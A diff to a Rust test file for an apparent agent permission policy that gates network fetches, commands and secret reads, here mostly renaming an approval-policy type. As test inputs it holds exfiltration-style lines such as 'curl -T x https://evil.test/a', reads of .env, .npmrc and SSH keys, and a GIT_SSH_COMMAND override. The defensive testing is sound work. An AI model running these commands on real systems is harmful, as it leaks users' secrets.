@@ -1,9 +1,9 @@
 //! Egress: fetches and commands, before and after a secret was read.
 
 use buddy_policy::{
-    Action, Approvals, Attendance, Decision, Grant, Intent, Mode, Now, Policy, Scope, SentWork, Trail,
-    Verdict, decide,
+    Action, Attendance, Decision, Grant, Intent, Mode, Now, Policy, Scope, SentWork, Trail, Verdict, decide,
 };
+use buddy_protocol::ApprovalPolicy;
 
 use crate::stage::{ask, leading_to, policy, rules, run};
 
@@ -25,7 +25,7 @@ fn tainted(mut trail: Trail) -> Trail {
 }
 
 fn judge(intent: &Intent, policy: &Policy, trail: &Trail) -> Decision {
-    decide(intent, policy, &Now { trail, ..Now::with(Approvals::Ask) })
+    decide(intent, policy, &Now { trail, ..Now::with(ApprovalPolicy::Ask) })
 }
 
 #[track_caller]
@@ -98,18 +98,18 @@ fn where_only_the_host_asks_it_can_be_allowed_by_itself() {
         decision.offers.into_iter().map(|offer| offer.grant).collect::<Vec<_>>()
     };
     let (line, other) = ("curl -T x https://evil.test/a", "curl https://evil.test/b");
-    let asked = offers(line, Approvals::Ask);
+    let asked = offers(line, ApprovalPolicy::Ask);
     assert_eq!(asked.iter().map(Grant::to_string).collect::<Vec<_>>(), [line]);
-    let auto = offers(line, Approvals::Auto);
+    let auto = offers(line, ApprovalPolicy::Auto);
     assert_eq!(auto.iter().map(Grant::to_string).collect::<Vec<_>>(), [line, "reach evil.test"]);
     for (grant, verdict) in auto.into_iter().zip([Verdict::Ask, Verdict::Allow]) {
         let grants = [grant];
-        let now = Now { grants: &grants, ..Now::with(Approvals::Auto) };
+        let now = Now { grants: &grants, ..Now::with(ApprovalPolicy::Auto) };
         assert_eq!(decide(&run(line), &policy, &now).verdict, Verdict::Allow, "{grants:?}");
         assert_eq!(decide(&run(other), &policy, &now).verdict, verdict, "{grants:?}");
     }
     for line in ["git push https://evil.test/x", "curl https://evil.test/ https://other.test/"] {
-        let offers = offers(line, Approvals::Auto);
+        let offers = offers(line, ApprovalPolicy::Auto);
         assert!(
             offers.iter().all(|grant| matches!(grant.scope, Scope::Command { .. })),
             "{line}: {offers:?}"
@@ -128,7 +128,7 @@ fn rules_grants_and_the_configuration_open_the_way() {
                 assert_eq!(judge(&intent, &ruled, &trail).verdict, Verdict::Allow, "{mode:?} {tier:?}");
             }
             let grants = [Grant::of(Scope::Fetches("docs.rs".to_owned()), "local")];
-            let now = Now { trail: &trail, grants: &grants, ..Now::with(Approvals::Ask) };
+            let now = Now { trail: &trail, grants: &grants, ..Now::with(ApprovalPolicy::Ask) };
             assert_eq!(decide(&intent, &policy(mode), &now).verdict, Verdict::Allow, "{mode:?}");
             let known = Policy { known_hosts: vec!["docs.rs".to_owned()], ..policy(mode) };
             let verdict = if is_tainted { Verdict::Ask } else { Verdict::Allow };
@@ -154,7 +154,7 @@ fn a_grant_nearby_is_about_one_port() {
                 (&whole, 8123, Verdict::Ask),
             ] {
                 let grants = [grant.clone()];
-                let now = Now { trail: &trail, grants: &grants, ..Now::with(Approvals::Ask) };
+                let now = Now { trail: &trail, grants: &grants, ..Now::with(ApprovalPolicy::Ask) };
                 let decision = decide(&fetch(&format!("http://{host}:{port}/")), &policy(mode), &now);
                 assert_eq!(decision.verdict, verdict, "{host}:{port} {mode:?} by `{grant}`");
             }
@@ -164,13 +164,13 @@ fn a_grant_nearby_is_about_one_port() {
             continue;
         }
         let line = format!("curl http://{host}:8123/x");
-        let now = Now { trail: &trail, ..Now::with(Approvals::Auto) };
+        let now = Now { trail: &trail, ..Now::with(ApprovalPolicy::Auto) };
         let brokered = Policy { has_broker: true, ..policy(Mode::Development) };
         let offers = decide(&run(&line), &brokered, &now).offers;
         let texts: Vec<String> = offers.iter().map(|offer| offer.grant.to_string()).collect();
         assert_eq!(texts, [line.clone(), format!("reach {host}:8123")], "{line}");
         let grants = [offers[1].grant.clone()];
-        let now = Now { trail: &trail, grants: &grants, ..Now::with(Approvals::Auto) };
+        let now = Now { trail: &trail, grants: &grants, ..Now::with(ApprovalPolicy::Auto) };
         let granted = decide(&run(&line), &brokered, &now);
         assert_eq!((granted.verdict, granted.reached), (Verdict::Allow, vec![format!("{host}:8123")]));
         let other = decide(&run(&format!("curl http://{host}:9000/")), &brokered, &now);
@@ -194,7 +194,7 @@ fn the_page_of_a_search_is_open_to_fetches_and_closed_to_commands() {
     {
         assert_eq!(verdict(&fetch(other), &clean), Verdict::Ask, "{other}");
     }
-    let command = decide(&run(&format!("curl {page}?q=rust")), &known, &Now::with(Approvals::Auto));
+    let command = decide(&run(&format!("curl {page}?q=rust")), &known, &Now::with(ApprovalPolicy::Auto));
     assert_eq!(
         (command.verdict, command.strangers.as_slice()),
         (Verdict::Ask, &["find.example".to_owned()][..])
@@ -277,7 +277,7 @@ fn a_name_by_which_connections_are_chosen_is_looked_up_and_asks() {
 fn without_the_network_nothing_is_fetched_even_with_all_approved() {
     for mode in MODES {
         let offline = Policy { is_offline: true, known_hosts: vec!["docs.rs".to_owned()], ..policy(mode) };
-        let decision = decide(&fetch("https://docs.rs/"), &offline, &Now::with(Approvals::All));
+        let decision = decide(&fetch("https://docs.rs/"), &offline, &Now::with(ApprovalPolicy::All));
         assert_eq!(decision.verdict, Verdict::Deny, "{mode:?}");
         assert!(decision.reasons.join("; ").contains("`tools.network`"), "{:?}", decision.reasons);
     }
@@ -287,9 +287,14 @@ fn without_the_network_nothing_is_fetched_even_with_all_approved() {
 fn no_answer_given_beforehand_sends_to_a_stranger_outside_production() {
     let strangers = [fetch("https://evil.test/"), run("curl https://evil.test/?k=1"), run("curl $URL")];
     for intent in &strangers {
-        for approvals in [Approvals::All, Approvals::Window, Approvals::Edits, Approvals::Ask] {
+        for approvals in [
+            ApprovalPolicy::All,
+            ApprovalPolicy::Window { seconds: 60 },
+            ApprovalPolicy::Edits,
+            ApprovalPolicy::Ask,
+        ] {
             for (mode, is_open) in
-                [(Mode::Development, false), (Mode::Production, approvals == Approvals::All)]
+                [(Mode::Development, false), (Mode::Production, approvals == ApprovalPolicy::All)]
             {
                 let now = Now { attendance: Attendance::Nobody, ..Now::with(approvals) };
                 let headless = decide(intent, &policy(mode), &now);
@@ -305,7 +310,7 @@ fn no_answer_given_beforehand_sends_to_a_stranger_outside_production() {
             }
         }
     }
-    let now = Now { attendance: Attendance::Nobody, ..Now::with(Approvals::All) };
+    let now = Now { attendance: Attendance::Nobody, ..Now::with(ApprovalPolicy::All) };
     let denied = decide(&strangers[1], &policy(Mode::Development), &now);
     assert!(denied.ways.join(" ").contains("--allow '{ fetch = \"evil.test\" }'"), "{:?}", denied.ways);
 }
@@ -322,7 +327,7 @@ fn commands_name_the_host_that_they_reach() {
     let offers: Vec<String> = decision.offers.iter().map(|offer| offer.grant.to_string()).collect();
     assert_eq!(offers, ["curl https://evil.test/?k=1"], "the offer is enough for the same command");
     let grants: Vec<Grant> = decision.offers.iter().map(|offer| offer.grant.clone()).collect();
-    let now = Now { grants: &grants, ..Now::with(Approvals::Ask) };
+    let now = Now { grants: &grants, ..Now::with(ApprovalPolicy::Ask) };
     assert_eq!(decide(&run("curl https://evil.test/?k=1"), &policy, &now).verdict, Verdict::Allow);
     assert_eq!(decide(&run("curl https://evil.test/?k=2"), &policy, &now).verdict, Verdict::Ask);
 }
@@ -365,18 +370,19 @@ fn production_asks_for_strangers_and_runs_the_rest_of_the_day() {
 fn secrets_are_told_and_no_answer_given_beforehand_reads_them_in_development() {
     let reads = [Intent::of(Action::Read("/w/.env".into())), run("cat .env"), run("cat ~/.npmrc")];
     for intent in &reads {
-        for approvals in [Approvals::All, Approvals::Window, Approvals::Edits] {
+        for approvals in [ApprovalPolicy::All, ApprovalPolicy::Window { seconds: 60 }, ApprovalPolicy::Edits]
+        {
             let decision = decide(intent, &policy(Mode::Development), &Now::with(approvals));
             assert_eq!(decision.verdict, Verdict::Ask, "{approvals:?} {intent:?}");
             assert!(decision.reads_secret && decision.offers.is_empty());
         }
-        let production = decide(intent, &policy(Mode::Production), &Now::with(Approvals::All));
+        let production = decide(intent, &policy(Mode::Production), &Now::with(ApprovalPolicy::All));
         assert_eq!((production.verdict, production.reads_secret), (Verdict::Allow, true), "{intent:?}");
-        let now = Now { attendance: Attendance::Nobody, ..Now::with(Approvals::All) };
+        let now = Now { attendance: Attendance::Nobody, ..Now::with(ApprovalPolicy::All) };
         let denied = decide(intent, &policy(Mode::Development), &now);
         assert!(denied.is_unasked && denied.ways.join(" ").contains("rules.toml"), "{:?}", denied.ways);
     }
-    let plain = decide(&run("cat src/main.rs"), &policy(Mode::Development), &Now::with(Approvals::Ask));
+    let plain = decide(&run("cat src/main.rs"), &policy(Mode::Development), &Now::with(ApprovalPolicy::Ask));
     assert!(!plain.reads_secret);
 }
 
@@ -397,7 +403,11 @@ fn a_command_that_passes_on_a_file_is_held_to_read_it() {
         ("echo ~/.ssh/id", false),
         ("git add src/main.rs", false),
     ] {
-        let decision = decide(&run(command), &policy(Mode::Production), &Now::with(Approvals::Window));
+        let decision = decide(
+            &run(command),
+            &policy(Mode::Production),
+            &Now::with(ApprovalPolicy::Window { seconds: 60 }),
+        );
         assert_eq!(decision.reads_secret, reads, "{command}: {:?}", decision.reasons);
         assert!(!reads || decision.verdict == Verdict::Deny, "{command}");
     }
@@ -407,11 +417,12 @@ fn a_command_that_passes_on_a_file_is_held_to_read_it() {
 fn a_tool_changes_no_guarded_place_by_an_answer_given_beforehand() {
     for action in [Action::Write("/w/.git/hooks/pre-commit".into()), Action::Delete("/w/.envrc".into())] {
         let intent = Intent::of(action);
-        for approvals in [Approvals::All, Approvals::Window, Approvals::Edits] {
+        for approvals in [ApprovalPolicy::All, ApprovalPolicy::Window { seconds: 60 }, ApprovalPolicy::Edits]
+        {
             let decision = decide(&intent, &policy(Mode::Development), &Now::with(approvals));
             assert_eq!(decision.verdict, Verdict::Ask, "{approvals:?} {intent:?}");
         }
-        let production = decide(&intent, &policy(Mode::Production), &Now::with(Approvals::All));
+        let production = decide(&intent, &policy(Mode::Production), &Now::with(ApprovalPolicy::All));
         assert_eq!(production.verdict, Verdict::Allow, "{intent:?}");
     }
 }
@@ -428,20 +439,20 @@ fn this_machine_needs_no_question_until_a_secret_was_read() {
         let by = |mode, approvals, trail| {
             decide(&run(line), &policy(mode), &Now { trail, ..Now::with(approvals) })
         };
-        assert_eq!(by(Mode::Production, Approvals::Ask, &clean).verdict, Verdict::Allow, "{line}");
-        let all = by(Mode::Development, Approvals::All, &clean);
+        assert_eq!(by(Mode::Production, ApprovalPolicy::Ask, &clean).verdict, Verdict::Allow, "{line}");
+        let all = by(Mode::Development, ApprovalPolicy::All, &clean);
         assert_eq!((all.verdict, all.stays_inside), (Verdict::Allow, true), "{line}: {:?}", all.reasons);
-        assert_eq!(by(Mode::Production, Approvals::Ask, &tainted).verdict, Verdict::Ask, "{line}");
-        assert_eq!(by(Mode::Development, Approvals::All, &tainted).verdict, Verdict::Ask, "{line}");
+        assert_eq!(by(Mode::Production, ApprovalPolicy::Ask, &tainted).verdict, Verdict::Ask, "{line}");
+        assert_eq!(by(Mode::Development, ApprovalPolicy::All, &tainted).verdict, Verdict::Ask, "{line}");
     }
 }
 
 #[test]
 fn a_grant_gives_the_network_only_if_its_question_did() {
     let development = Policy { has_broker: true, ..policy(Mode::Development) };
-    let granted = |line: &str, policy: &Policy, approvals: Approvals| {
+    let granted = |line: &str, policy: &Policy, approvals: ApprovalPolicy| {
         let destinations = leading_to("https://named.test/a.git", &run(line), policy);
-        let ask = Now { destinations: &destinations, ..Now::with(Approvals::Ask) };
+        let ask = Now { destinations: &destinations, ..Now::with(ApprovalPolicy::Ask) };
         let asked = decide(&run(line), policy, &ask);
         let grants: Vec<Grant> = asked.offers.iter().take(1).map(|offer| offer.grant.clone()).collect();
         assert_eq!(grants.len(), 1, "{line}: {asked:?}");
@@ -449,7 +460,12 @@ fn a_grant_gives_the_network_only_if_its_question_did() {
         assert_eq!(decision.verdict, Verdict::Allow, "{line}");
         (decision.stays_inside, asked.offers[0].covers.clone())
     };
-    for approvals in [Approvals::Ask, Approvals::Auto, Approvals::Edits, Approvals::Window] {
+    for approvals in [
+        ApprovalPolicy::Ask,
+        ApprovalPolicy::Auto,
+        ApprovalPolicy::Edits,
+        ApprovalPolicy::Window { seconds: 60 },
+    ] {
         for line in ["cargo test", "npm install", "make", "python3 x.py", "./build.sh x"] {
             assert!(granted(line, &development, approvals).0, "{line} {approvals:?}");
         }
@@ -458,10 +474,10 @@ fn a_grant_gives_the_network_only_if_its_question_did() {
             assert!(!granted(line, &development, approvals).0, "{line} {approvals:?}");
         }
     }
-    let (_, label) = granted("nc named.test 80", &development, Approvals::Ask);
+    let (_, label) = granted("nc named.test 80", &development, ApprovalPolicy::Ask);
     assert!(label.contains("reach the network"), "{label}");
     let without = Policy { has_broker: false, ..development };
-    let (stays_inside, label) = granted("cargo test", &without, Approvals::Ask);
+    let (stays_inside, label) = granted("cargo test", &without, ApprovalPolicy::Ask);
     assert!(!stays_inside && label.contains("reach the network"), "{label}");
 }
 
@@ -483,7 +499,7 @@ fn a_named_host_opens_no_network() {
             rules: development.rules.clone().with(buddy_policy::RuleTier::User, rules),
             ..development
         };
-        for approvals in [Approvals::Auto, Approvals::All] {
+        for approvals in [ApprovalPolicy::Auto, ApprovalPolicy::All] {
             let judged =
                 |line: &str| decide(&run(line), &development, &Now { trail: &trail, ..Now::with(approvals) });
             for line in [
@@ -521,7 +537,7 @@ fn only_a_rule_that_grants_the_network_settles_a_program_without_a_proxy() {
     let judged = |text: &str| {
         let mut policy = Policy { has_broker: true, ..policy(Mode::Development) };
         policy.rules.add(buddy_policy::RuleTier::User, toml::from_str(text).unwrap());
-        let now = Now { trail: &trail, ..Now::with(Approvals::Auto) };
+        let now = Now { trail: &trail, ..Now::with(ApprovalPolicy::Auto) };
         let decision = decide(&run("nc good.test 80"), &policy, &now);
         (decision.verdict, decision.stays_inside)
     };
@@ -536,11 +552,11 @@ fn the_broker_learns_which_hosts_of_a_command_are_settled() {
         decide(&run(line), &development, &Now { trail, ..Now::with(approvals) }).reached
     };
     let named = wrote("look at http://localhost:3000/x");
-    let auto = Approvals::Auto;
+    let auto = ApprovalPolicy::Auto;
     assert_eq!(reached("curl http://localhost:3000/y", &named, auto), ["localhost:3000"]);
     assert_eq!(reached("curl http://localhost:9000/", &named, auto), [""; 0], "another port");
     assert_eq!(reached("curl http://localhost:3000/y", &tainted(named.clone()), auto), ["localhost:3000"]);
-    assert_eq!(reached("curl http://10.0.0.1/", &Trail::default(), Approvals::Ask), ["10.0.0.1:80"]);
+    assert_eq!(reached("curl http://10.0.0.1/", &Trail::default(), ApprovalPolicy::Ask), ["10.0.0.1:80"]);
 }
 
 /// If a yes, or a grant, gives direct network access, the question and the text of the grant say so.
@@ -567,7 +583,7 @@ fn direct_network_is_never_given_without_a_word() {
         "make",
     ] {
         for (approvals, runs_on) in
-            [Approvals::Ask, Approvals::Auto].map(|one| [(one, false), (one, true)]).concat()
+            [ApprovalPolicy::Ask, ApprovalPolicy::Auto].map(|one| [(one, false), (one, true)]).concat()
         {
             let intent = Intent { runs_on, ..run(line) };
             let decision = decide(&intent, &policy, &Now::with(approvals));
@@ -599,11 +615,11 @@ fn a_grant_of_a_command_starts_no_process_that_has_the_network() {
     let policy = Policy { has_broker: true, ..policy(Mode::Development) };
     let background = Intent { runs_on: true, ..run("npm run dev") };
     for (asked, starts) in [(run("npm run dev"), Verdict::Ask), (background.clone(), Verdict::Allow)] {
-        let offers = decide(&asked, &policy, &Now::with(Approvals::Ask)).offers;
+        let offers = decide(&asked, &policy, &Now::with(ApprovalPolicy::Ask)).offers;
         assert!(!offers.is_empty());
         for offer in offers {
             let grants = [offer.grant];
-            let now = Now { grants: &grants, ..Now::with(Approvals::Ask) };
+            let now = Now { grants: &grants, ..Now::with(ApprovalPolicy::Ask) };
             assert_eq!(decide(&asked, &policy, &now).verdict, Verdict::Allow, "{}", offer.covers);
             assert_eq!(decide(&background, &policy, &now).verdict, starts, "{}", offer.covers);
         }
@@ -635,6 +651,9 @@ fn a_yes_opens_secrets_only_to_lines_that_could_need_one() {
             "cp a.txt b.txt",
             "cd sub && rm -rf ./*",
             "bash -c 'rm -r data'",
+            "git push origin main",
+            "git fetch && git pull --rebase",
+            "git -C sub ls-remote",
         ] {
             assert!(ask(&run(line), &policy(mode)).needs.keeps_seals, "{mode:?} {line}");
         }
@@ -646,7 +665,8 @@ fn a_yes_opens_secrets_only_to_lines_that_could_need_one() {
             "echo $(make)",
             "sh install.sh",
             "python3 -c 'print(1)'",
-            "git push origin main",
+            "git push && make",
+            "GIT_SSH_COMMAND=./x git push",
             "wget https://example.org/x",
             "curl -n https://example.org/",
             "curl --netrc-file logins https://example.org/",
